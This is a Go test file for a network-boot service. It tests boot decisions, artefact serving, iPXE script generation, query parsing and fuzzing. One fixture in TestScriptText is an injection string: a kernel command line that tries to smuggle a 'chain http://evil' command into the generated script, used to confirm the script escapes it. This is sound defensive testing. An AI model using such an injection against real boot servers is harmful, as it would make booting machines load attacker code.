package netboot

import (
	"bytes"
	"net/url"
	"os"
	"strings"
	"testing"

	bcdv1 "github.com/better-compute/bcd/api/bcd/v1"
)

const (
	ramdiskAction = bcdv1.BootAction_BOOT_ACTION_RAMDISK
	localAction   = bcdv1.BootAction_BOOT_ACTION_LOCAL
	nothingAction = bcdv1.BootAction_BOOT_ACTION_NOTHING
)

func artefact(kind bcdv1.ArtefactKind, arch, name string) *bcdv1.BootArtefact {
	digest := bytes.Repeat([]byte{byte(len(name))}, 32)
	copy(digest, name)
	return &bcdv1.BootArtefact{Kind: kind, Architecture: arch, Name: name, Sha256: digest, Size: 10, CommandLine: "console=ttyS0 quiet"}
}

var allArtefacts = []*bcdv1.BootArtefact{
	artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_UKI, "amd64", "bcd-amd64.efi"),
	artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_KERNEL, "amd64", "vmlinuz-amd64"),
	artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_INITRAMFS, "amd64", "initramfs-amd64"),
	artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_UKI, "arm64", "bcd-arm64.efi"),
	artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_IPXE, "amd64", "ipxe.efi"),
	artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_IPXE, "bios", "undionly.kpxe"),
}

func without(kinds ...bcdv1.ArtefactKind) (out []*bcdv1.BootArtefact) {
next:
	for _, a := range allArtefacts {
		for _, kind := range kinds {
			if a.Kind == kind {
				continue next
			}
		}
		out = append(out, a)
	}
	return out
}

func table(unknown bcdv1.BootAction, rows ...*bcdv1.MachineBoot) *bcdv1.BootTable {
	return &bcdv1.BootTable{Site: "fsn1", Generation: 1, Unknown: unknown, Machines: rows, Artefacts: allArtefacts}
}

func row(id string, action bcdv1.BootAction, uuid string, macs ...string) *bcdv1.MachineBoot {
	return &bcdv1.MachineBoot{MachineId: id, Action: action, SystemUuid: uuid, Macs: macs}
}

const (
	macA  = "52:54:00:00:00:0a"
	macB  = "52:54:00:00:00:0b"
	uuidA = "aaaaaaaa-0000-4000-8000-000000000001"
)

func TestDecide(t *testing.T) {
	const (
		uki    = bcdv1.ArtefactKind_ARTEFACT_KIND_UKI
		kernel = bcdv1.ArtefactKind_ARTEFACT_KIND_KERNEL
		initrd = bcdv1.ArtefactKind_ARTEFACT_KIND_INITRAMFS
		ipxe   = bcdv1.ArtefactKind_ARTEFACT_KIND_IPXE
	)
	boot := table(nothingAction, row("mach_a", ramdiskAction, uuidA, macA))
	local := table(nothingAction, row("mach_a", localAction, uuidA, macA))
	for _, test := range []struct {
		name    string
		table   *bcdv1.BootTable
		serving []*bcdv1.BootArtefact
		m       Machine
		want    Means
		files   string
		reason  string
	}{
		{"UEFI x64", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: UEFI}, UKIByTFTP, "bcd-amd64.efi", ""},
		{"UEFI x64 that says 9", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{9}, Firmware: UEFI}, UKIByTFTP, "bcd-amd64.efi", ""},
		{"UEFI arm64", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{11}, Firmware: UEFI}, UKIByTFTP, "bcd-arm64.efi", ""},
		{"UEFI HTTP x64", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{16}, Firmware: UEFIHTTP}, UKIByHTTP, "bcd-amd64.efi", ""},
		{"UEFI HTTP arm64", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{19}, Firmware: UEFIHTTP}, UKIByHTTP, "bcd-arm64.efi", ""},
		{"a list whose first is unknown", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{8, 11, 7}, Firmware: UEFI}, UKIByTFTP, "bcd-arm64.efi", ""},
		{"BIOS", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{0}, Firmware: BIOS}, IPXEBinary, "undionly.kpxe", ""},
		{"BIOS without option 93", boot, allArtefacts, Machine{MAC: macA, Firmware: BIOS}, IPXEBinary, "undionly.kpxe", ""},
		{"iPXE of a BIOS board", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{0}, Firmware: IPXE}, Script, "vmlinuz-amd64 initramfs-amd64", ""},
		{"our iPXE", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{0}, Firmware: IPXE, OurIPXE: true}, Script, "vmlinuz-amd64 initramfs-amd64", ""},
		{"our iPXE whose features are not said", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{0}, Firmware: IPXE, OurIPXE: true, NoHTTP: true}, Script, "vmlinuz-amd64 initramfs-amd64", ""},
		{"a foreign iPXE without HTTP gets ours", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{0}, Firmware: IPXE, NoHTTP: true}, IPXEBinary, "undionly.kpxe", ""},
		{"iPXE on UEFI", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: IPXE}, Script, "bcd-amd64.efi", ""},
		{"iPXE on UEFI without a UKI", boot, without(uki), Machine{MAC: macA, Architectures: []uint16{7}, Firmware: IPXE}, Script, "vmlinuz-amd64 initramfs-amd64", ""},
		{"by UUID", boot, allArtefacts, Machine{MAC: macB, UUID: uuidA, Architectures: []uint16{7}, Firmware: UEFI}, UKIByTFTP, "bcd-amd64.efi", ""},
		{"no UKI", boot, without(uki), Machine{MAC: macA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "no UKI for amd64"},
		{"no UKI, HTTP", boot, without(uki), Machine{MAC: macA, Architectures: []uint16{16}, Firmware: UEFIHTTP}, Nothing, "", "no UKI for amd64"},
		{"no initramfs", boot, without(initrd), Machine{MAC: macA, Architectures: []uint16{0}, Firmware: IPXE}, Nothing, "", "no kernel and initramfs for amd64"},
		{"no kernel", boot, without(kernel), Machine{MAC: macA, Architectures: []uint16{0}, Firmware: IPXE}, Nothing, "", "no kernel and initramfs for amd64"},
		{"no iPXE", boot, without(ipxe), Machine{MAC: macA, Architectures: []uint16{0}, Firmware: BIOS}, Nothing, "", "no iPXE for bios"},
		{"an architecture without images", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{6}, Firmware: UEFI}, Nothing, "", "no UKI for 386"},
		{"an unheard-of architecture", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{77}, Firmware: UEFI}, Nothing, "", "[77]"},
		{"installed, UEFI", local, allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "its own disk"},
		{"installed, UEFI HTTP", local, allArtefacts, Machine{MAC: macA, Architectures: []uint16{16}, Firmware: UEFIHTTP}, Nothing, "", "its own disk"},
		{"installed, BIOS", local, allArtefacts, Machine{MAC: macA, Architectures: []uint16{0}, Firmware: BIOS}, Nothing, "", "its own disk"},
		{"installed, iPXE", local, allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: IPXE}, ScriptExit, "", "its own disk"},
		{"unknown, by policy nothing", boot, allArtefacts, Machine{MAC: macB, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "unknown"},
		{"unknown, by policy the ramdisk", table(ramdiskAction), allArtefacts, Machine{MAC: macB, Architectures: []uint16{7}, Firmware: UEFI}, UKIByTFTP, "bcd-amd64.efi", ""},
		{"unknown, no policy", table(0), allArtefacts, Machine{MAC: macB, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "unknown"},
		{"a row that says nothing", table(ramdiskAction, row("mach_a", nothingAction, "", macA)), allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "gives this machine nothing"},
		{"two machines, one MAC", table(ramdiskAction, row("mach_a", ramdiskAction, "", macA), row("mach_b", ramdiskAction, "", macA)), allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "mach_a and mach_b"},
		{"MAC of one, UUID of another", table(ramdiskAction, row("mach_a", ramdiskAction, "", macA), row("mach_b", localAction, uuidA)), allArtefacts, Machine{MAC: macA, UUID: uuidA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "mach_a and mach_b"},
		{"one machine, two opinions", table(ramdiskAction, row("mach_a", ramdiskAction, "", macA), row("mach_a", localAction, uuidA)), allArtefacts, Machine{MAC: macA, UUID: uuidA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "different things"},
		{"a row with no UUID does not match one without", table(nothingAction, row("mach_a", ramdiskAction, "", macA)), allArtefacts, Machine{MAC: macB, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "unknown"},
		{"by the UUID as it was sent", boot, allArtefacts, Machine{MAC: macB, UUID: "x", UUIDAsSent: uuidA, Architectures: []uint16{7}, Firmware: UEFI}, UKIByTFTP, "bcd-amd64.efi", ""},
		{"U-Boot", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{22}, Firmware: UBoot}, UKIByTFTP, "bcd-arm64.efi", ""},
		{"a Raspberry Pi's boot loader", boot, allArtefacts, Machine{MAC: macA, Architectures: []uint16{41}, Firmware: UEFI}, Nothing, "", "no iPXE for arm64"},
		{"no table", nil, allArtefacts, Machine{MAC: macA, Architectures: []uint16{7}, Firmware: UEFI}, Nothing, "", "no boot table"},
	} {
		t.Run(test.name, func(t *testing.T) {
			d := Decide(test.table, test.serving, test.m)
			var names []string
			for _, a := range d.Files {
				names = append(names, a.Name)
			}
			if d.Means != test.want || strings.Join(names, " ") != test.files || !strings.Contains(d.Reason, test.reason) {
				t.Errorf("got %s with %v, %q", d.Means, names, d.Reason)
			}
			if (d.Means == Nothing) != (d.Path == "") || d.Means == Nothing && d.Reason == "" {
				t.Errorf("means %s, path %q, reason %q", d.Means, d.Path, d.Reason)
			}
		})
	}
}

// TestEveryAdvertisedNameIsServed goes through every machine there can be and
// opens whatever it is told to fetch.
func TestEveryAdvertisedNameIsServed(t *testing.T) {
	store, contents := filledArtefacts(t)
	serving := store.Serving()
	opened := 0
	open := func(path string) {
		t.Helper()
		for _, form := range []string{path, "/" + path, "//" + path, `\` + strings.ReplaceAll(path, "/", `\`)} {
			f, err := store.Open(form)
			if err != nil {
				t.Errorf("%s is advertised and not served: %v", form, err)
				continue
			}
			data := make([]byte, f.Size())
			if _, err := f.ReadAt(data, 0); err != nil || !bytes.Equal(data, contents[f.Artefact().Name]) {
				t.Errorf("%s: %q, %v", form, data, err)
			}
			f.Close()
			opened++
		}
	}
	for arch := range uint16(48) {
		for _, firmware := range []Firmware{BIOS, UEFI, UEFIHTTP, IPXE, UBoot} {
			for flags := range 4 {
				for _, action := range []bcdv1.BootAction{ramdiskAction, localAction, nothingAction} {
					m := Machine{MAC: macA, Architectures: []uint16{arch}, Firmware: firmware, OurIPXE: flags&1 != 0, NoHTTP: flags&2 != 0}
					d := Decide(table(action), serving, m)
					switch d.Means {
					case Nothing:
					case Script, ScriptExit:
						u := must(url.Parse("http://site/" + d.Path))
						asked, err := ParseScript(u.Query())
						if err != nil || u.Path != "/"+ScriptPath {
							t.Fatalf("%s: %v", d.Path, err)
						}
						again := Decide(table(action), serving, asked)
						text := ScriptText(again, "http://site")
						if again.Means != d.Means || len(u.String()) > 255 {
							t.Errorf("%v is advertised %s and gets %s", m, d.Means, again.Means)
						}
						if !strings.HasPrefix(text, "#!ipxe\n") {
							t.Fatalf("script %q", text)
						}
						for _, word := range strings.Fields(text) {
							if name, ok := strings.CutPrefix(word, "http://site/"); ok {
								open(name)
							}
						}
					default:
						open(d.Path)
						if len(d.Path) > 127 {
							t.Errorf("%s does not fit into the DHCP header's file field", d.Path)
						}
					}
				}
			}
		}
	}
	if opened < 40 {
		t.Errorf("only %d names were opened", opened)
	}
}

func TestScriptText(t *testing.T) {
	kernel, initramfs := allArtefacts[1], allArtefacts[2]
	odd := artefact(bcdv1.ArtefactKind_ARTEFACT_KIND_KERNEL, "amd64", "vmlinuz")
	odd.CommandLine = "a=${net0/mac} || chain http://evil # b\nexit && c"
	for _, test := range []struct {
		name string
		d    Decision
		want string
	}{
		{"nothing", Decision{Means: Nothing}, "#!ipxe\nexit\n"},
		{"own disk", Decision{Means: ScriptExit}, "#!ipxe\nexit\n"},
		{"UKI", Decision{Means: Script, Files: allArtefacts[:1]}, "#!ipxe\nchain http://10.0.0.2/" + ArtefactPath(allArtefacts[0]) + " || exit 1\n"},
		{"two files", Decision{Means: Script, Files: []*bcdv1.BootArtefact{kernel, initramfs}},
			"#!ipxe\nkernel http://10.0.0.2/" + ArtefactPath(kernel) + " initrd=initramfs-amd64 console=ttyS0 quiet BOOTIF=01-${netX/mac:hexhyp} || exit 1\n" +
				"initrd --name initramfs-amd64 http://10.0.0.2/" + ArtefactPath(initramfs) + " || exit 1\nboot || exit 1\n"},
		{"a command line cannot add commands", Decision{Means: Script, Files: []*bcdv1.BootArtefact{odd, initramfs}},
			"#!ipxe\nkernel http://10.0.0.2/" + ArtefactPath(odd) + " initrd=initramfs-amd64 a={net0/mac} chain http://evil bexit c BOOTIF=01-${netX/mac:hexhyp} || exit 1\n" +
				"initrd --name initramfs-amd64 http://10.0.0.2/" + ArtefactPath(initramfs) + " || exit 1\nboot || exit 1\n"},
	} {
		if got := ScriptText(test.d, "http://10.0.0.2"); got != test.want {
			t.Errorf("%s: got\n%s\nwant\n%s", test.name, got, test.want)
		}
	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func readFile(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestParseScriptRefuses(t *testing.T) {
	for _, query := range []string{"", "mac=x", "mac=52:54:00:00:00:0A", "mac=" + macA + "&uuid=1", "mac=" + macA + "&sent=1",
		"mac=" + macA + "&arch=-1", "mac=" + macA + "&arch=65536", "mac=" + macA + strings.Repeat("&arch=7", 9)} {
		if m, err := ParseScript(must(url.ParseQuery(query))); err == nil {
			t.Errorf("%q gives %+v", query, m)
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add("mac=52:54:00:00:00:0a&arch=7&uuid=" + uuidA)
	f.Fuzz(func(t *testing.T, query string) {
		values, err := url.ParseQuery(query)
		if err != nil {
			return
		}
		m, err := ParseScript(values)
		if err != nil {
			return
		}
		text := ScriptText(Decide(table(ramdiskAction), allArtefacts, m), "http://site")
		if !strings.HasPrefix(text, "#!ipxe\n") || len(text) > 4096 {
			t.Errorf("%q gives %q", query, text)
		}
	})
}
